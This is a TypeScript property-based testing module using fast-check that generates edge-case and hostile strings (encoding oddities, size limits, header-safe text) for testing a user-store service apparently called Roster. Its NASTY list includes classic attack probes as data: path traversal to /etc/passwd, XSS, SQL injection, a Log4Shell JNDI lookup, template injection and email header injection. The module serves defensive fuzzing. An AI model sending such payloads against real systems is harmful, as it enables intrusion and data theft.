import fc from 'fast-check';

/** The body limit: megabyte strings land just under or just over it. */
const ONE_MEGABYTE = 1024 * 1024;

/** Lone UTF-16 surrogates: valid in a JS string and in JSON escapes, invalid as UTF-8. */
const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((code) => String.fromCharCode(code));

/** Inputs that have broken parsers, stores and templates before. */
const NASTY = [
  '',
  ' ',
  '\t\n\r',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff',
  'x\ud83d',
  '\u202e\u200b\ufeff',
  '😀👩‍👩‍👧‍👦',
  'null',
  'undefined',
  'true',
  '0',
  '-1',
  'NaN',
  '1e309',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  '../../../../etc/passwd',
  '%00',
  '%2e%2e%2f',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR '1'='1",
  '${jndi:ldap://example.invalid/a}',
  '{{7*7}}',
  'a\r\nBcc: victim@example.invalid',
  '#',
  'T#',
  '#UNIQUE',
  'urn:ietf:params:scim:schemas:core:2.0:User',
  'userName eq "x"',
  '*',
  'W/"1"',
];

/** Strings of a length just around the limits Roster validates (256, 1024, 2048 bytes of a key). */
const nearLimit = fc
  .tuple(fc.constantFrom(64, 100, 200, 256, 320, 512, 1024, 2048, 4096), fc.integer({ min: -2, max: 2 }), fc.constantFrom('x', 'é', '中', '😀'))
  .map(([length, delta, char]) => char.repeat(Math.max(1, length + delta)));

/** Any string a client could send, weighted towards the ones that break things. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.string({ maxLength: 40 }), weight: 4 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 3 },
  { arbitrary: fc.string({ unit: fc.oneof(fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }), loneSurrogate), maxLength: 20 }), weight: 2 },
  { arbitrary: fc.constantFrom(...NASTY), weight: 4 },
  { arbitrary: nearLimit, weight: 2 },
);

/** A string of roughly one megabyte (over or under the body limit once wrapped in JSON). */
export const megabyteString = fc
  .tuple(fc.integer({ min: -2_000, max: 2_000 }), fc.constantFrom('x', 'é'))
  .map(([delta, char]) => char.repeat(Math.floor((ONE_MEGABYTE + delta) / Buffer.byteLength(char))));

/**
 * Text a client may validly send for an attribute of at most `max` characters: short, or exactly
 * `max` characters of 1- to 4-byte UTF-8 (so stored items and keys get as large as input allows).
 */
export function boundedText(max: number): fc.Arbitrary<string> {
  return fc.oneof(
    { arbitrary: fc.string({ minLength: 1, maxLength: 20 }).filter((text) => text.trim() !== ''), weight: 4 },
    { arbitrary: fc.constantFrom('x', 'é', '中', '😀').map((char) => char.repeat(char.length === 2 ? max / 2 : max)), weight: 1 },
  );
}

/** A printable ASCII string: header values must be ByteStrings. */
export const headerSafeString = fc.string({ unit: 'grapheme-ascii', maxLength: 80 }).map((value) => value.replace(/[^\x20-\x7e]/g, ''));
